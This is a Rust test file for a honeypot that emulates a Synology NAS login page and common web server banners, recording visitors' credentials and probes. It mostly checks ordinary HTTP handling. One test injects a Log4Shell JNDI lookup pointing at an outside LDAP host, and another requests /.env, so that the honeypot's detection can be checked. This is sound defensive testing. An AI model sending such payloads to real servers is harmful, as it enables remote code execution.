//! Whole conversations whose answers hold dates, or pages too long for a transcript.

use std::{
    io::Read,
    time::{Duration, SystemTime},
};

use haldane_core::{Cx, Effects, Entry, Input, Login, Secret, Severity, Sighting, Timeout, Value};

use super::Http;
use crate::replay::{Counting, Ending, Outcome, build, peer, talk};

static ROW: Entry = Entry::stream::<Http>();

fn served(settings: &[&str], sent: &str) -> Outcome {
    let service = build(&ROW, settings).unwrap();
    let outcome = talk(service.stream.unwrap().as_ref(), &[sent.as_bytes()], false);
    assert_eq!(outcome.broken, Vec::<String>::new());
    outcome
}

const NAS: &[&str] = &["skin = \"nasLogin\""];

/// Status and text of the answer to one request, and its event.
fn one(settings: &[&str], line: &str, fields: &str, body: &str) -> (u16, String, Sighting) {
    let length = if body.is_empty() { String::new() } else { format!("Content-Length: {}\r\n", body.len()) };
    let sent =
        format!("{line} HTTP/1.1\r\nHost: nas:8080\r\nUser-Agent: probe/1\r\n{fields}{length}\r\n{body}");
    let mut outcome = served(settings, &sent);
    let text = String::from_utf8_lossy(&outcome.reply).into_owned();
    let seen = outcome.seen.pop().unwrap();
    assert!(outcome.seen.is_empty(), "one event for one request");
    (text[9..12].parse().unwrap(), text, seen)
}

fn field(seen: &Sighting, name: &str) -> String {
    match &seen.fields[name] {
        Value::Text(text) => text.to_string(),
        other => format!("{other:?}"),
    }
}

#[test]
fn the_page_is_read_and_its_form_posted_as_the_peer_has_it() {
    let (status, text, _) = one(NAS, "GET /", "", "");
    assert_eq!(status, 302);
    assert!(text.contains("\r\nLocation: http://nas:8080/index.html\r\n"));
    let (status, text, seen) = one(NAS, "GET /index.html?a", "", "");
    assert_eq!((status, seen.kind.number, seen.severity), (200, 3000, Severity::Low));
    assert!(text.contains("Synology DiskStation") && !text.contains("Incorrect account"));
    assert_eq!(
        ["hostname", "path", "skin", "user_agent", "query"].map(|name| field(&seen, name)),
        ["nas", "/index.html", "nasLogin", "probe/1", "a"]
    );
    let (status, text, seen) = one(NAS, "POST /index.html", "", "username=eve&password=apple+pie");
    assert_eq!((status, seen.kind.number, seen.severity), (200, 3001, Severity::High));
    assert!(text.contains("Synology DiskStation") && text.contains("Incorrect account"));
    assert_eq!(seen.login, Some(Login::password("form", "eve", "apple pie")));
    let (_, _, seen) = one(NAS, "POST /index.html", "", "");
    assert_eq!((seen.kind.number, seen.login), (3001, None));
}

#[test]
fn folders_are_forbidden_and_odd_methods_not_allowed() {
    assert_eq!(one(NAS, "GET /css/", "", "").0, 403);
    assert_eq!(one(NAS, "GET /css", "", "").0, 301);
    assert_eq!(one(NAS, "GET /nothing", "", "").0, 404);
    assert_eq!(one(NAS, "GET /img/synohdpack/images/Components/checkbox.png", "", "").0, 200);
    for method in ["DELETE", "PATCH", "PUT", "TRACE", "HEAD", "FOOBAR"] {
        assert_eq!(one(NAS, &format!("{method} /index.html"), "", "").0, 405, "{method}");
    }
    let all = ["skin = \"nasLogin\"", "get_and_post_only = false"];
    assert_eq!(one(&all, "HEAD /index.html", "", "").0, 200);
    assert_eq!(one(&all, "FOOBAR /index.html", "", "").0, 501);
    assert_eq!(one(&all, "TRACE /index.html", "", "").0, 200);
}

#[test]
fn a_page_is_compressed_on_request() {
    let (_, plain, _) = one(NAS, "GET /css/signin.css", "", "");
    let sent = "GET /css/signin.css HTTP/1.1\r\nHost: a\r\nAccept-Encoding: br, gzip;q=0.5\r\n\r\n";
    let reply = served(NAS, sent).reply;
    let end = reply.windows(4).position(|window| window == b"\r\n\r\n").unwrap() + 4;
    let head = String::from_utf8(reply[..end].to_vec()).unwrap();
    assert!(head.contains("\r\nVary: Accept-Encoding\r\nContent-Encoding: gzip\r\nContent-Length: "));
    assert!(head.contains("-gzip\"\r\n"));
    let mut text = String::new();
    flate2::read::GzDecoder::new(&reply[end..]).read_to_string(&mut text).unwrap();
    let shape = |text: &str| text.lines().nth(1).unwrap().to_owned();
    assert_eq!(shape(&text), shape(plain.split_once("\r\n\r\n").unwrap().1));
    assert!(!one(NAS, "GET /css/signin.css", "Accept-Encoding: gzip;q=0\r\n", "").1.contains("gzip"));
}

#[test]
fn parts_and_unchanged_files_are_served_as_asked() {
    let service = build(&ROW, NAS).unwrap().stream.unwrap();
    let ask = |fields: &str| {
        let sent = format!("GET /img/unit.svg HTTP/1.1\r\nHost: a\r\n{fields}\r\n");
        String::from_utf8(talk(service.as_ref(), &[sent.as_bytes()], false).reply).unwrap()
    };
    let whole = ask("");
    let size = whole.split_once("\r\n\r\n").unwrap().1.len();
    let part = ask("Range: bytes=0-3\r\n");
    assert!(part.starts_with("HTTP/1.1 206 Partial Content\r\n") && part.ends_with("\r\n\r\n<svg"));
    assert!(part.contains(&format!("Content-Length: 4\r\nContent-Range: bytes 0-3/{size}\r\n")));
    assert!(ask("Range: bytes=0-3,8-9\r\n").contains("Content-Type: multipart/byteranges; boundary="));
    assert!(ask("Range: bytes=999999-\r\n").starts_with("HTTP/1.1 416 "));
    let etag = whole.split_once("ETag: ").unwrap().1.split_once("\r\n").unwrap().0;
    let unchanged = ask(&format!("If-None-Match: {etag}\r\n"));
    assert!(unchanged.starts_with("HTTP/1.1 304 Not Modified\r\n") && unchanged.ends_with("\r\n\r\n"));
    assert!(unchanged.contains(etag) && !unchanged.contains("Content-Length"));
}

#[test]
fn requests_follow_each_other_until_the_hundred_and_first() {
    let request = "GET /x HTTP/1.1\r\nHost: a\r\nConnection: keep-alive\r\n\r\n";
    let outcome = served(&[], &request.repeat(150));
    assert_eq!((outcome.seen.len(), outcome.ending), (101, Ending::Close));
    let text = String::from_utf8(outcome.reply).unwrap();
    assert!(text.contains("Keep-Alive: timeout=5, max=100\r\nConnection: Keep-Alive\r\n"));
    assert!(text.contains("max=1\r\n") && !text.contains("max=0\r\n"));
    let answers: Vec<_> = text.split("HTTP/1.1 404").collect();
    assert_eq!(answers.len(), 102);
    assert!(answers[101].contains("Connection: close\r\n"));
}

#[test]
fn a_large_body_is_reported_as_soon_as_its_beginning_is_known_and_once() {
    let service = build(&ROW, &[]).unwrap().stream.unwrap();
    let head = "POST /up HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n";
    let (first, rest) = ("user=eve&pass=x&data=".to_owned() + &"a".repeat(9_000), "b".repeat(990_979));
    let begun = talk(service.as_ref(), &[head.as_bytes(), first.as_bytes()], false);
    assert_eq!((begun.seen.len(), begun.reply.len()), (1, 0));
    assert_eq!(begun.seen[0].login, Some(Login::password("form", "eve", "x")));
    let whole = talk(service.as_ref(), &[head.as_bytes(), first.as_bytes(), rest.as_bytes()], false);
    assert_eq!(whole.seen.len(), 1);
    assert!(whole.reply.starts_with(b"HTTP/1.1 404 ") && whole.ending == Ending::Open);
}

#[test]
fn an_attack_on_the_page_is_severe_and_still_a_page_read() {
    let (_, _, seen) = one(&[], "GET /index.html", "X-Api-Version: ${jndi:ldap://192.0.2.9/a}\r\n", "");
    assert_eq!((seen.kind.number, seen.severity), (3000, Severity::High));
    assert_eq!(field(&seen, "exploit"), "log4shell (CVE-2021-44228)");
}

#[test]
fn a_broken_request_keeps_its_credentials() {
    let sent = "GET /x HTTP/1.1\r\nAuthorization: Bearer abc\r\n\r\n";
    let outcome = served(&[], sent);
    assert!(outcome.reply.starts_with(b"HTTP/1.1 400 ") && outcome.ending == Ending::Close);
    assert_eq!(outcome.seen[0].kind.name, "http.login");
    assert_eq!(outcome.seen[0].login.as_ref().unwrap().secret, Some(Secret::Token("abc".into())));
}

#[test]
fn bytes_that_are_no_text_are_kept() {
    let service = build(&ROW, &[]).unwrap().stream.unwrap();
    let sent = b"GET /\xe9 HTTP/1.1\r\nHost: a\r\n\r\nPOST /index.html HTTP/1.1\r\nHost: a\r\nContent-Length: 19\r\n\r\nuser=%E9&password=\xe9";
    let outcome = talk(service.as_ref(), &[sent], false);
    assert_eq!(outcome.seen[0].fields["path"], Value::from(&b"/\xe9"[..]));
    assert_eq!(outcome.seen[1].login, Some(Login::password("form", b"\xe9", b"\xe9")));
}

#[test]
fn the_simplest_version_gets_a_bare_page() {
    let outcome = served(&[], "GET /index.html\r\n");
    assert!(outcome.reply.starts_with(b"<!DOCTYPE html") && outcome.ending == Ending::Close);
    assert!(served(&[], "GET /none\r\n").reply.starts_with(b"<!DOCTYPE HTML"));
    assert!(served(&[], "HELO x\r\n").reply.starts_with(b"HTTP/1.1 400 Bad Request\r\n"));
}

#[test]
fn fields_stand_where_the_banner_s_server_puts_them() {
    for (banner, order) in [
        ("nginx/1.22.1", &["Server", "Date", "Content-Type", "Content-Length", "Connection"][..]),
        ("lighttpd/1.4.69", &["Content-Type", "Content-Length", "Date", "Server"]),
        ("Microsoft-IIS/10.0", &["Content-Type", "Server", "Date", "Content-Length"]),
        ("Apache/2.4.57 (Debian)", &["Date", "Server", "Content-Length", "Content-Type"]),
    ] {
        let (_, text, _) = one(&[&format!("banner = \"{banner}\"")], "GET /none", "", "");
        let head = text.split_once("\r\n\r\n").unwrap().0;
        let names: Vec<_> = head.lines().skip(1).map(|line| line.split_once(':').unwrap().0).collect();
        assert_eq!(names, order, "{banner}");
    }
}

#[test]
fn an_operator_s_folder_replaces_the_skin() {
    let folder = std::env::temp_dir().join(format!("haldane-site-{}", std::process::id()));
    std::fs::create_dir_all(folder.join("static/css")).unwrap();
    std::fs::write(folder.join("index.html"), "mine<!--STARTERR--> wrong<!--ENDERR-->").unwrap();
    std::fs::write(folder.join("404.html"), "my 404").unwrap();
    std::fs::write(folder.join("static/css/a.css"), "a{}").unwrap();
    let skindir = format!("skindir = \"{}\"", folder.display());
    let settings = [skindir.as_str(), "skin = \"ours\""];
    let get = one(&settings, "GET /index.html", "", "");
    let post = one(&settings, "POST /index.html", "", "a=b");
    let (css, none) = (one(&settings, "GET /css/a.css", "", ""), one(&settings, "GET /none", "", ""));
    std::fs::remove_dir_all(&folder).unwrap();
    assert!(get.1.ends_with("\r\n\r\nmine") && post.1.ends_with("mine wrong") && css.1.ends_with("a{}"));
    assert_eq!((field(&get.2, "skin").as_str(), none.0), ("ours", 404));
    assert!(none.1.ends_with("my 404"));
    assert!(build(&ROW, &["skindir = \"/nonexistent\""]).is_err());
    assert!(build(&ROW, &["skin = \"nasLogon\""]).is_err());
}

#[test]
fn plain_http_on_a_tls_port_is_explained_and_kept() {
    let ask = |banner: &str| {
        let service = build(&ROW, &[&format!("banner = \"{banner}\"")]).unwrap().stream.unwrap();
        let (peer, mut effects) = (peer(), Effects::default());
        let mut random = Counting::default();
        let mut cx = Cx::new(&peer, SystemTime::UNIX_EPOCH, None, &mut random, &mut effects);
        service.open(&peer).plain(b"GET /.env HTTP/1.1\r\nHost: a\r\n\r\n", &mut cx);
        assert_eq!(field(&effects.seen[0], "path"), "/.env");
        assert_eq!(effects.seen[0].kind.name, "http.exploit");
        String::from_utf8(effects.reply).unwrap()
    };
    let new = ask("Apache/2.4.71 (Debian)");
    assert!(new.starts_with("HTTP/1.1 400 Bad Request\r\n") && new.contains("You're speaking plain HTTP"));
    let old = ask("Apache/2.2.22 (Ubuntu)");
    assert!(
        old.starts_with("<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n<title>400")
    );
}

#[test]
fn a_bare_line_feed_ends_a_line_for_old_servers_only() {
    for (banner, status) in
        [("Apache/2.4.71 (Debian)", "400"), ("Apache/2.2.22", "404"), ("nginx/1.22.1", "404")]
    {
        let banner = format!("banner = \"{banner}\"");
        for sent in ["GET /x HTTP/1.0\n\n", "GET /x HTTP/1.0\r\nA: b\n\r\n"] {
            let reply = served(&[&banner], sent).reply;
            assert_eq!(&reply[9..12], status.as_bytes(), "{banner} {sent:?}");
        }
    }
}

#[test]
fn whoever_expects_to_be_told_to_go_on_is_told_unless_the_answer_is_known() {
    let head = |path: &str| {
        format!("POST {path} HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 3\r\n\r\n")
    };
    let page = served(&[], &head("/index.html"));
    assert_eq!((page.reply.as_slice(), page.seen.len()), (&b"HTTP/1.1 100 Continue\r\n\r\n"[..], 0));
    let root = served(&[], &head("/"));
    let text = String::from_utf8(root.reply).unwrap();
    assert!(text.starts_with("HTTP/1.1 302 Found\r\n") && text.contains("\r\nConnection: close\r\n"));
    assert_eq!((root.seen.len(), root.ending), (1, Ending::Close));
    let odd = "GET / HTTP/1.1\r\nHost: a\r\nExpect: a<b\r\n\r\n";
    let text = String::from_utf8(served(&[], odd).reply).unwrap();
    assert!(text.starts_with("HTTP/1.1 417 ") && text.contains("Expect: a&lt;b\n"));
}

#[test]
fn a_slow_header_is_told_so_and_silence_between_requests_is_short() {
    let service = build(&ROW, &[]).unwrap().stream.unwrap();
    let peer = peer();
    let mut session = service.open(&peer);
    let mut step = |text: &[u8], second: u64| {
        let (mut effects, mut random) = (Effects::default(), Counting::default());
        let now = SystemTime::UNIX_EPOCH + Duration::from_secs(second);
        let mut cx = Cx::new(&peer, now, None, &mut random, &mut effects);
        match text {
            b"" => session.timeout(Timeout::Idle, &mut cx),
            text => drop(session.step(&mut Input::stream(text), &mut cx)),
        }
        (effects.reply, session.patience())
    };
    assert_eq!(step(b"GET /x HTTP/1.1\r\n", 0).1, None);
    step(b"Host: a\r\n", 0);
    assert_eq!(step(b"\r\n", 0).1, Some(Duration::from_secs(5)));
    assert_eq!(step(b"", 5).0, b"");
    step(b"GET /x HTTP/1.1\r\n", 6);
    assert!(step(b"A: b\r\n", 45).0.is_empty());
    assert!(step(b"A: b\r\n", 47).0.starts_with(b"HTTP/1.1 408 Request Timeout\r\n"));
    step(b"GET /x HTTP/1.1\r\n", 50);
    assert!(step(b"", 70).0.starts_with(b"HTTP/1.1 408 Request Timeout\r\n"));
}
